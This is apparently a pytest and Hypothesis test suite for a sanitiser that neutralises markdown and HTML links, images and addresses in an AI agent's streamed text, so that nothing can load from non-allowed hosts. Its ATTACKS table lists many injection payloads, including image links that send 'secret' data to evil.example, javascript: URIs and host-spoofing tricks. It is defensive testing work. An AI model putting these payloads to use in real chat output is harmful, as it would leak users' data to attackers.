"""Text that is safe to show: no link or image to another server, however it is written and delivered."""

import re
from collections.abc import Iterator
from unicodedata import category

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from qwestly_agent.text.clean import SafeText, safe_text

HOSTS = ["qwestly.com", "qwestly.dev"]

ATTACKS = {
    # images and links
    "![x](https://evil.example/a.png?d=secret)": "![x] \u00a0(https:// evil.example/a.png?d=secret)",
    "[x](https://evil.example)": "[x] \u00a0(https:// evil.example)",
    "[x](<https://evil.example>)": "[x] \u00a0(< https:// evil.example>)",
    "[x](\nhttps://evil.example)": "[x] \u00a0(\nhttps:// evil.example)",
    "[x](//evil.example)": "[x] \u00a0(//evil.example)",
    "[x](/\\evil.example)": "[x] \u00a0(/\\evil.example)",
    "[x](/\t/evil.example)": "[x] \u00a0(/\t/evil.example)",
    "[x](https:/evil.example)": "[x] \u00a0(https:/evil.example)",
    "[x](https:\\\\evil.example)": "[x] \u00a0(https:\\\\evil.example)",
    "[x](javascript:alert(1))": "[x] \u00a0(javascript:alert(1))",
    "[x](java&Tab;script&colon;alert(1))": "[x] \u00a0(java&Tab;script& colon;alert(1))",
    "[x](vbscript:x)": "[x] \u00a0(vbscript:x)",
    "[x](data:text/html,x)": "[x] \u00a0(data:text/html,x)",
    "[x](&#47;&#47;evil.example)": "[x] \u00a0(& #47;& #47;evil.example)",
    "[x](&#47&#47evil.example)": "[x] \u00a0(&#47&#47evil.example)",
    "[x](https://qwestly.com@evil.example/)": "[x] \u00a0(https:// qwestly.com@evil.example/)",
    "[x](https://qwestly.com.evil.example/)": "[x] \u00a0(https:// qwestly.com.evil.example/)",
    "[x](https://evilqwestly.com/)": "[x] \u00a0(https:// evilqwestly.com/)",
    "[x](https://qwestly.com:8080@evil.example/)": "[x] \u00a0(https:// qwestly.com:8080@evil.example/)",
    "[x](https://qwestly.com\\@evil.example/)": "[x] \u00a0(https:// qwestly.com\\@evil.example/)",
    '[x](https://qwestly.com/ "a title")': '[x] \u00a0(https://qwestly.com/ "a title")',
    "[x](https://qwestly.com/](https://evil.example)": "[x] \u00a0(https://qwestly.com/] \u00a0(https:// evil.example)",
    "[a [b](https://evil.example)](/c)": "[a [b] \u00a0(https:// evil.example)](/c)",
    # across blanks, as Showdown reads
    "[x] (//evil.example)": "[x] \u00a0(//evil.example)",
    "![x] \t (https://evil.example)": "![x] \u00a0(https:// evil.example)",
    "[x] (javascript:alert(1))": "[x] \u00a0(javascript:alert(1))",
    f"[x]{' ' * 300}(//evil.example)": f"[x] \u00a0{' ' * 100}(//evil.example)",
    # what looks like a link's destination, and is read as an address because it is no link
    "\\](www.evil.example)": "\\] \u00a0(www .evil.example)",
    "\\](https://qwestly.com)@evil.example": "\\](https://qwestly.com) @evil.example",
    # definitions
    "[x]: https://evil.example": "[x] : https:// evil.example",
    "[x][1]\n\n[1]: //evil.example": "[x][1]\n\n[1] : //evil.example",
    # HTML, and addresses in angle brackets
    "<img src=//evil.example>": "< img src=//evil.example>",
    "<a\nhref=//evil.example>x</a>": "< a\nhref=//evil.example>x< /a>",
    "<!-- x --><?x?>": "< !-- x -->< ?x?>",
    "<https://evil.example>": "< https:// evil.example>",
    "<SCRIPT>": "< SCRIPT>",
    # bare addresses
    "https://evil.example/?d=secret": "https:// evil.example/?d=secret",
    "hTTp://evil.example": "hTTp:// evil.example",
    "ftp://evil.example": "ftp:// evil.example",
    "ftp://qwestly.com": "ftp:// qwestly.com",
    "https://user@evil.example": "https:// user@evil.example",
    "https://https://evil.example": "https:// https:// evil.example",
    "www.evil.example": "www .evil.example",
    "(WWW.evil.example": "(WWW .evil.example",
    "**a**www.evil.example": "**a**www .evil.example",
    "awww.evil.example": "awww .evil.example",
    "https://www.evil.example": "https:// www .evil.example",
    "mailto:a@evil.example": "mailto: a@evil.example",
    "xmpp:a@evil.example/secret": "xmpp: a@evil.example/secret",
    # bare addresses that begin with an allowed host
    "https://qwestly.com@evil.example": "https:// qwestly.com@evil.example",
    "https://qwestly.com:8080@evil.example": "https:// qwestly.com:8080@evil.example",
    "https://qwestly.com.evil.example": "https:// qwestly.com.evil.example",
    "https://qwestly.com,.evil.example": "https:// qwestly.com,.evil.example",
    "https://qwestly.com。evil.example": "https:// qwestly.com。evil.example",
    "https://qwestly.com。邪悪": "https:// qwestly.com。邪悪",
    "https://qwestly.com\\@evil.example": "https:// qwestly.com\\@evil.example",
    "https://qwestly.com)@evil.example": "https:// qwestly.com)@evil.example",
    'https://qwestly.com"@evil.example': 'https:// qwestly.com"@evil.example',
    "https://qwestly.com'.evil.example": "https:// qwestly.com'.evil.example",
    "https://qwestly.com]@evil.example": "https:// qwestly.com]@evil.example",
    "https://qwestly.com<@evil.example": "https:// qwestly.com<@evil.example",
    "https://qwestly.com\u00a0@evil.example": "https:// qwestly.com\u00a0@evil.example",
    "https://qwestly.com](b)x.evil.example": "https:// qwestly.com](b)x.evil.example",
    "https://qwestly.com&commat;evil.example": "https:// qwestly.com&commat;evil.example",
    "https://a..qwestly.com": "https:// a..qwestly.com",
    "www.qwestly.com@evil.example": "www .qwestly.com@evil.example",
    # entities and escapes, which remark decodes before it looks for addresses
    "https&colon;//evil.example": "https& colon;//evil.example",
    "https:&#x2F;/evil.example": "https:& #x2F;/evil.example",
    "&#0119;ww.evil.example": "& #0119;ww.evil.example",
    "www&period;evil.example": "www& period;evil.example",
    "https\\:/\\/evil.example": "https\\:/\\/ evil.example",
    "www\\.evil.example": "www \\.evil.example",
    "xmpp\\:a@evil.example/secret": "xmpp\\: a@evil.example/secret",
    # invisible characters
    "]\u200b(https://evil.example)": "] \u00a0(https:// evil.example)",
    "<\x00img src=//evil.example>": "< img src=//evil.example>",
    "https:\u2060//evil.example": "https:// evil.example",
    "w\u00adww.evil.example": "www .evil.example",
    "]\u200d(https://evil.example)": "] \u00a0(https:// evil.example)",
    "a\U000e0041\U000e0042b": "ab",
    "a\U000e0100\ufe0fb": "ab",
    "\U0001f600\ufe0f\ufe0e\ufe0f\u200d\u200d!": "\U0001f600\ufe0f\u200d!",
    "\u202eelpmaxe.live\u202c": "elpmaxe.live",
    "a\u115f\u3164\uffa0\ufeff\u034f\u061c\ue000\ufdd0\U0001ffff\U00100000b": "ab",
}

ORDINARY = [
    "You have seven years of it. Shall I write a first draft?",
    "10:30, note: text; a < b, a<3, x <- y, p && q, AT&T, R&D; Tom &amp; Ann, it&#39;s, caf&eacute;",
    "x[i](y), [1], [a][b], array[0][1], - [x] done, [^1]",
    "**bold** _it_ ~~no~~ `code` # Title\n\n> said\n\n1. one\n2. two\n\n---\n",
    "| a | b |\n|:--|--:|\n| 1 | 2 |\n",
    "```python\nif a < b and c[i] > 0:\n\treturn {'a': [1, 2]}\n```\n",
    "Write to ana@example.com or (ana@example.com).",
    "[the card](https://qwestly.com/card/12?a=b&c=%20#top), ![me](https://app.qwestly.com/me.png)",
    "[home](https://qwestly.com), [**home**](HTTPS://Qwestly.com)!",
    "[jobs](/jobs?open=1#all) [up](../a_b.md) [top](#top) []()",
    "https://qwestly.com. http://app.qwestly.com/x, **https://qwestly.com** (https://qwestly.com/a) 'https://qwestly.com'",
    '"https://qwestly.com", `https://qwestly.dev`; https://qwestly.com。 https://www.qwestly.com/a www.qwestly.com',
    "[https://qwestly.com](https://qwestly.com/) https://qwestly.com?a=https#b | https://qwestly.com |",
    "Begin with `https://`, `ftp://` or https://… Awww. Awww... The end is near: www",
    "Übung, żółw, Ελληνικά, русский, עברית, العربية, हिन्दी, ภาษาไทย, 日本語、中文。한국어",
    "می‌خواهم क्‍ष ශ්‍රී 葛\ufe00",
    "👩‍👩‍👧‍👦 ❤️‍🔥 🏳️‍🌈 👍🏽 🇩🇪 1️⃣ #️⃣ ✔︎ ©️ 👩🏿‍🚀",
    "C:\\Users\\ana, \\alpha, 3/4, and/or, // a comment, 100 %, ~5, a_b, c++, \tindented",
]

FRAGMENTS = [
    *("] (", "[x]", "(//evil.example)", "(javascript:alert(1))", " " * 150),
    *"[]()<>!:/\\.@#&;?=*_~`'\"| \n\r\tw1xé日。\u00a0\u200b\u200c\u200d\ufe0e\ufe0f\u2028\x00\x85\ue000❤\ud83d",
    *("](", "]:", "![", "](/a)", "[x](https://qwestly.com)", "[x](https://qwestly.com/a)", "<br>", "<img", "<!--"),
    *("https://", "HTTP://", "ftp://", "://", "//", "www.", "ww", "mailto:", "xmpp:", "\\:", "\\/", "\\.", "\\]"),
    *("qwestly.com", "app.qwestly.dev", "evil.example", "@evil.example", ".evil.example", "\r\n"),
    *("&colon;", "&sol;", "&period;", "&#58;", "&#x2f;", "&#0119;"),
    *("a" * 70, "." * 60, "a." * 40),
]
TEXTS = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=3), max_size=12).map("".join)


def in_pieces(text: str, size: int = 1) -> Iterator[str]:
    safe = SafeText(HOSTS)
    for start in range(0, len(text), size):
        yield safe.feed(text[start : start + size])
    yield safe.end()


@pytest.mark.parametrize(("text", "shown"), ATTACKS.items())
def test_an_injected_markup_attack_is_shown_as_text(text: str, shown: str) -> None:
    assert safe_text(text, HOSTS) == shown
    assert "".join(in_pieces(text)) == shown


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_shown_unchanged(text: str) -> None:
    assert safe_text(text, HOSTS) == text
    assert "".join(in_pieces(text)) == text


def test_a_link_followed_by_text_without_a_blank_stays_a_link() -> None:
    assert safe_text("请看[主页](https://qwestly.com)。谢谢", HOSTS) == "请看[主页](https://qwestly.com) 。谢谢"
    assert safe_text("| https://qwestly.com<br>x |", HOSTS) == "| https://qwestly.com< br>x |"


@pytest.mark.parametrize("size", [1, 2, 100])
def test_every_line_ending_becomes_a_line_feed(size: int) -> None:
    assert "".join(in_pieces("a\r\nb\rc\x85d\u2028e\u2029\r\r\nf\r", size)) == "a\nb\nc\nd\ne\n\n\nf\n"


@pytest.mark.parametrize("hosts", [[], [""], ["", "qwestly.com"]])
def test_every_address_is_text_if_no_host_is_allowed(hosts: list[str]) -> None:
    assert safe_text("[x](https://a.example./) https://b.example. www.c.example [d](/d)", hosts) == (
        "[x] \u00a0(https:// a.example./) https:// b.example. www .c.example [d](/d)"
    )


@pytest.mark.thorough
@given(TEXTS, st.lists(st.integers(min_value=0)))
@settings(max_examples=300)
@example("[x](https://qwestly.com?)a", [24])
def test_chunk_boundaries_do_not_affect_the_text(text: str, cuts: list[int]) -> None:
    safe = SafeText(HOSTS)
    ends = sorted(cut % (len(text) + 1) for cut in cuts)
    pieces = [text[start:end] for start, end in zip([0, *ends], [*ends, len(text)], strict=True)]
    assert "".join(map(safe.feed, pieces)) + safe.end() == safe_text(text, HOSTS)
    assert "".join(in_pieces(text)) == safe_text(text, HOSTS)


@pytest.mark.thorough
@given(TEXTS)
@settings(max_examples=300)
@example("mailto://evil.example")
def test_safe_text_stays_unchanged(text: str) -> None:
    assert safe_text(safe_text(text, HOSTS), HOSTS) == safe_text(text, HOSTS)


@pytest.mark.thorough
@given(TEXTS)
@settings(max_examples=300)
def test_no_visible_text_is_lost(text: str) -> None:
    def words(text: str) -> str:
        text = re.sub("[\u115f\u1160\u3164\uffa0]", "", text)
        return "".join(each for each in text if not each.isspace() and category(each)[0] not in "CM")

    assert words(safe_text(text, HOSTS)) == words(text)


@pytest.mark.thorough
@given(TEXTS)
@settings(max_examples=300)
def test_no_syntax_that_links_to_other_hosts_remains(text: str) -> None:
    shown = safe_text(text, HOSTS)
    assert not re.search(r"\]:|\][ \t]+\(|<[A-Za-z/!?]", shown)
    assert all(leads_home(destination) for destination in re.findall(r"\]\(([^)]*)", shown))
    decoded = decode(shown)
    assert all(is_home(rest) for rest in re.findall(r"://(\S*\w\S*)", decoded))
    assert all(is_home(rest) for rest in re.findall(r"(?i)\bwww\.(\S*)", decoded))
    assert not re.search(r"(?i)\b(?:mailto|xmpp):[^\s/]", decoded)


def leads_home(destination: str) -> bool:
    _, https, rest = destination.rpartition("https://")
    return is_home(rest) if https else not re.search(r"//|[:\\&\s<]", destination)


def is_home(address: str) -> bool:
    """By the rules of URLs, the part before the first `/`, `?` or `#` is user, host and port."""
    host = re.split(r"[/?#]|\]\(", address)[0].lower().rstrip("""[]!"'),.:;?*_`|}~<>…—–’”»。""")
    return any(host == ours or host.endswith("." + ours) for ours in HOSTS)


def decode(text: str) -> str:
    for entity, character in {"colon": ":", "sol": "/", "period": "."}.items():
        text = text.replace(f"&{entity};", character)
    text = re.sub(r"&#([0-9]{1,7});", lambda number: chr(int(number[1]) % 0xD800), text)
    text = re.sub(r"&#[xX]([0-9a-fA-F]{1,6});", lambda number: chr(int(number[1], 16) % 0xD800), text)
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)


def test_text_without_markup_is_shown_at_once() -> None:
    pieces = ["Yes,", " the", " cow", " 🐄 k", "nows", ". ww", "w"]
    safe = SafeText(HOSTS)
    assert [safe.feed(piece) for piece in pieces] == pieces


def test_only_undecided_text_is_held_back() -> None:
    safe = SafeText(HOSTS)
    pieces = {
        "At 10:": "At 10",
        "30 a <": ":30 a ",
        " b [": "< b [",
        "x](https://": "x",
        "evil.": "",
        "example/": "] \u00a0(https:// evil.example/",
        "a) [y](": "a) [y",
        "/": "",
        "b": "",
        ") https://qwestly.com": "](/b) https",
        ".": "",
    }
    assert [safe.feed(piece) for piece in pieces] == list(pieces.values())
    assert safe.end() == "://qwestly.com."


STARTS = ["](", "](https://", "](https://qwestly.com/", "https://", "https://qwestly.com", "&#", "www.", "mailto"]


@pytest.mark.thorough
@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("more", ["a", ".", "-", "a.", ")", "]", "0"])
def test_the_amount_of_held_back_text_is_bounded(start: str, more: str) -> None:
    safe = SafeText(HOSTS)
    fed = start + more * 4000
    shown = "".join(safe.feed(each) for each in fed)
    assert len(fed) - len(shown.replace(" ", "")) <= 2100
